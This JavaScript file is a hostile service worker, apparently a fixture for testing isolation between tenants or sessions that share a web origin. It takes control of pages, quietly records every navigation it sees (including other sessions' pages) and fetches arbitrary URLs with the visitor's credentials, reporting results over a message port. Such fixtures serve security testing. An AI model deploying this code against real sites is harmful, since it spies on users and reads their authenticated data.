// The hostile tenant's service worker: registered with the widest scope its origin allows, it
// records every navigation it gets to see (on a shared session origin, the other sessions' pages
// too) and reads URLs with the credentials of whoever runs it.
'use strict';

const seen = [];

self.addEventListener('install', () => self.skipWaiting());
self.addEventListener('activate', (event) => event.waitUntil(self.clients.claim()));

// Recording without respondWith leaves the request to the browser: the victim's page still loads.
self.addEventListener('fetch', (event) => {
  if (event.request.mode === 'navigate') seen.push(event.request.url);
});

async function read(url) {
  try {
    const reply = await fetch(url, { credentials: 'include' });
    return { status: reply.status, text: await reply.text() };
  } catch (err) {
    return { error: `${err.name}: ${err.message}` };
  }
}

self.addEventListener('message', (event) => {
  const [port] = event.ports;
  const answer = event.data.type === 'read' ? read(event.data.url) : Promise.resolve({ seen });
  event.waitUntil(answer.then((reply) => port.postMessage(reply)));
});
